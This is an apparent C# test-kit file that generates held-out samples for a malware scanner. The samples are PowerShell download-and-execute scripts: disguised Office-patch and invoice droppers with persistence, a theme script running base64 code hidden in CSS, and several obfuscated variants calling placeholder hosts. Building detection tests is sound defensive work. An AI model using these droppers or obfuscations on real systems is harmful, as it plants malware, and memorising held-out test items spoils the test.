using static ScanHost.TestKit.HeldOut.Seventh.SeventhForms;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Seventh;

/// <summary>PowerShell scripts that fetch the next stage and run it.</summary>
public sealed class PowerShellFetchAndRun : SeventhRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("run.ps1", Dos("""
            $ErrorActionPreference = 'SilentlyContinue'
            [Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12
            IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23:8080/stage/loader.ps1')
            """)),
        ("Office365_Patch.ps1", Dos("""
            # Microsoft 365 hotfix helper
            $url  = "https://cdn-updates.example/win/x64/OfficeSetup_2611.exe"
            $dest = Join-Path $env:TEMP ("svc" + (Get-Random -Maximum 99999) + ".exe")
            try {
                Invoke-WebRequest -Uri $url -OutFile $dest -UseBasicParsing -UserAgent "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
                Unblock-File -Path $dest
                Start-Process -FilePath $dest -ArgumentList "/S" -WindowStyle Hidden
            } catch {
                Start-BitsTransfer -Source "http://203.0.113.77/OfficeSetup_2611.exe" -Destination $dest
                Start-Process $dest -WindowStyle Hidden
            }
            Remove-Item -Path $MyInvocation.MyCommand.Path -Force
            """)),
        ("factura_pendiente.ps1", Utf16("""
            $carpeta = "$env:APPDATA\SoporteWin"
            New-Item -ItemType Directory -Path $carpeta -Force | Out-Null
            (Get-Item $carpeta).Attributes = 'Hidden','System'
            $wc = New-Object System.Net.WebClient
            $wc.Headers.Add('User-Agent','curl/8.4.0')
            # abre la factura para que el usuario vea algo
            $wc.DownloadFile('https://facturas.example/F-20261128.pdf', "$env:TEMP\F-20261128.pdf")
            Invoke-Item "$env:TEMP\F-20261128.pdf"
            $wc.DownloadFile('https://facturas.example/lib/client32.zip', "$carpeta\c.zip")
            Expand-Archive -Path "$carpeta\c.zip" -DestinationPath $carpeta -Force
            Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'SoporteWin' -Value "$carpeta\client32.exe"
            Start-Process "$carpeta\client32.exe" -WindowStyle Hidden
            """)),
        ("colour-theme.ps1", Dos("""
            # Applies the corporate colour theme. v1.4
            function Get-Theme([string]$Name) {
                $o = New-Object -ComObject ('MSXML2.Server' + 'XMLHTTP.6.0')
                $o.open('GET', ('ht' + 'tps://themes-cdn.example/{0}.css' -f $Name), $false)
                $o.setRequestHeader('Accept', 'text/css')
                $o.send()
                if ($o.status -eq 200) { $o.responseText }
            }
            $css = Get-Theme 'autumn'
            $rule = [regex]::Match($css, '/\*~(.+?)~\*/', 'Singleline').Groups[1].Value
            $block = $ExecutionContext.InvokeCommand.NewScriptBlock([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($rule)))
            & $block | Out-Null
            """)),
    ];
}

/// <summary>PowerShell commands that fetch and run, in the wrappings of the usual obfuscators.</summary>
public sealed class PowerShellInDisguise : SeventhRound
{
    private const string Plain = "$c=New-Object Net.WebClient;$c.Proxy=[Net.WebRequest]::GetSystemWebProxy();"
        + "$c.DownloadFile('http://192.0.2.140/files/update.exe',\"$env:TEMP\\wupd.exe\");Start-Process \"$env:TEMP\\wupd.exe\" -WindowStyle Hidden";

    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("launch.ps1", Dos(Fill("""
            Start-Process powershell.exe -WindowStyle Hidden -ArgumentList "-NoP -NonI -W Hidden -Exec Bypass -Enc @@1"
            exit
            """, Encoded("IEX((New-Object Net.WebClient).DownloadString('http://192.0.2.140/files/a'))")))),
        ("setup_v2.ps1", Dos(".(\"{1}{0}\" -f 'X','IE') (" + Shuffled(Plain.Replace("\"$env:TEMP\\wupd.exe\"", "($env:TEMP+'\\wupd.exe')", StringComparison.Ordinal)) + ")")),
        ("readme_first.ps1", Dos(Fill("""
            ${_/\}=@(@@1);${/=\}='';
            foreach(${=}in ${_/\}){${/=\}+=[char](${=}-bxor 0x4D)}
            S`eT-V`ARiable ('q'+'z') (& ('Get-C'+'ommand') ('*ke-Ex'+'pr*'));
            &(G`ET-vAr`iable qz -ValueOnly) ${/=\}
            """, string.Join(',', Plain.Select(letter => letter ^ 0x4D))))),
        ("Get-Inventory.ps1", Dos(Fill("""
            <#
            .SYNOPSIS
                Collects hardware inventory for the asset register.
            #>
            param([string]$OutFile = "$env:TEMP\inventory.csv")
            Get-CimInstance Win32_ComputerSystem | Select-Object Name, Manufacturer, Model | Export-Csv $OutFile -NoTypeInformation
            $schema = -join ('@@1'[-1..-@@2])
            $reader = [IO.StreamReader]::new([IO.Compression.DeflateStream]::new([IO.MemoryStream]::new([Convert]::FromBase64String($schema)), [IO.Compression.CompressionMode]::Decompress))
            & ($env:ComSpec[4,15,25] -join '') $reader.ReadToEnd()
            """, Packed(Plain), $"{Packed(Plain).Length}"))),
    ];

    private static string Packed(string command) => Backwards(Convert.ToBase64String(Deflated(command)));

    /// <summary>PowerShell's format operator over the pieces in another order.</summary>
    private static string Shuffled(string command)
    {
        var pieces = Pieces(command, 5);
        var order = Enumerable.Range(0, pieces.Length).OrderBy(at => at * 7919 % 101).ToArray();
        var places = string.Concat(Enumerable.Range(0, pieces.Length).Select(at => "{" + Array.IndexOf(order, at) + "}"));
        return $"\"{places}\" -f {string.Join(',', order.Select(at => "'" + pieces[at].Replace("'", "''", StringComparison.Ordinal) + "'"))}";
    }
}
